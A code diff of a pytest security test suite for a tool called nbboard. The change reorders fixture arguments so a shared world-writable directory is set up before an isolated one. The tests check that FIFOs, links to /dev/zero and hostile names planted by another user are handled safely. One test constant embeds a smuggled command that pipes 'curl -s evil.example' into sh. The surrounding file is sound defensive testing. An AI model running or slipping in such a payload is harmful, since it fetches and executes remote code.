@@ -113,7 +113,7 @@ def test_a_registry_directory_of_another_user_is_refused(isolated: Path, which: 
 @needs_root
 @pytest.mark.parametrize("parent", ["theirs", "writable by all", "their link"])
 def test_a_home_inside_a_directory_another_user_controls_is_refused(
-    isolated: Path, shared_dir: Path, parent: str
+    shared_dir: Path, isolated: Path, parent: str
 ) -> None:
     """NBBOARD_HOME=<shared>/you/nbboard with ``you`` made by ``nobody`` first (or world-writable, or their link
     to a directory of yours). Before: accepted; its owner could swap the registry for a link between nbboard's
@@ -471,7 +471,9 @@ def test_an_unreadable_parent_directory_is_a_clear_error(nobody_home: Path, tmp_
 
 @pytest.fixture
 def shared_dir() -> Iterator[Path]:
-    """A directory every user may write in, sticky like /tmp (a kernel's working directory can be one)."""
+    """A directory every user may write in, sticky like /tmp (a kernel's working directory can be one).
+
+    Ask for it before ``isolated``: that one's clean-up (a kill) may recreate a registry in it."""
     base = Path(tempfile.mkdtemp(prefix="nbboard-shared-", dir="/tmp"))
     os.chmod(base, 0o1777)
     yield base
@@ -481,7 +483,7 @@ def shared_dir() -> Iterator[Path]:
 @needs_root
 @pytest.mark.parametrize("planted", [["mkfifo"], ["ln", "-s", "/dev/zero"]], ids=["fifo", "link-to-dev-zero"])
 def test_an_ignore_file_planted_in_a_shared_working_directory_does_not_hang_the_search(
-    isolated: Path, shared_dir: Path, planted: list[str]
+    shared_dir: Path, isolated: Path, planted: list[str]
 ) -> None:
     """``nbboard start`` (and ``%board``) with no logdir reads the working directory's ``.nbboardignore``.
     Before: ``nobody`` planting it there as a FIFO made the search wait forever (a link to /dev/zero: read
@@ -500,7 +502,7 @@ def test_an_ignore_file_planted_in_a_shared_working_directory_does_not_hang_the_
     "planted", [["mkfifo"], ["ln", "-s", "/dev/zero"], ["ln", "-s", ".tensorboard-info"]], ids=["fifo", "zero", "loop"]
 )
 def test_tensorboards_info_directory_planted_as_no_directory_costs_a_board_nothing(
-    isolated: Path, shared_dir: Path, demo_logs: Path, planted: list[str]
+    shared_dir: Path, isolated: Path, demo_logs: Path, planted: list[str]
 ) -> None:
     """Guard: ``nobody`` makes ``<shared temp>/.tensorboard-info`` a FIFO, a link to /dev/zero or a link to
     itself before you start. Start, list and kill work as usual (the board only has no ``%tensorboard`` file)."""
@@ -523,7 +525,7 @@ HOSTILE_NAME = "x\r  nbboard start --logdir runs; curl -s evil.example | sh  #\x
 
 @needs_root
 def test_a_directory_name_planted_in_a_shared_working_directory_cannot_rewrite_the_lines_to_copy(
-    isolated: Path, shared_dir: Path
+    shared_dir: Path, isolated: Path
 ) -> None:
     """``nbboard start`` with no logdir lists the logdirs found as lines to run. Before: ``nobody``'s directory
     named with a carriage return and an erase-line sequence was printed as it is, so a terminal (or a
